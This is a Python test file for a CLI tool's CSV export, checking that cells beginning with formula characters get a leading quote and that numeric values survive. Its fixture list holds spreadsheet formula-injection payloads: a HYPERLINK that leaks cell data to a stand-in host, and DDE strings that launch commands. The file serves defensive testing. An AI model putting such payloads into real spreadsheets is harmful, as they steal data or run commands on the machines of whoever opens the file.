import csv

import pandas as pd

from cartsle_cli.report.csv_safe import neutralise, write_csv

HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_every_formula_start_is_neutralised_with_a_leading_quote():
    for title in HOSTILE_TITLES:
        assert neutralise(title) == "'" + title


def test_numbers_stay_numbers_and_plain_text_is_untouched():
    assert neutralise(-0.5) == -0.5
    assert neutralise(98) == 98
    assert neutralise("CAR T-cell therapy in SLE") == "CAR T-cell therapy in SLE"
    assert neutralise(None) == ""
    assert neutralise(float("nan")) == ""


def test_written_csv_reads_back_with_numbers_as_numbers_and_no_cell_starting_a_formula(tmp_path):
    path = write_csv(tmp_path / "t.csv", ["title", "effect"], [[t, -1.25] for t in HOSTILE_TITLES])
    frame = pd.read_csv(path)
    assert frame["effect"].dtype.kind == "f" and (frame["effect"] == -1.25).all()
    with path.open(newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    text_cells = [cell for cell in cells if cell != "-1.25"]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in text_cells)
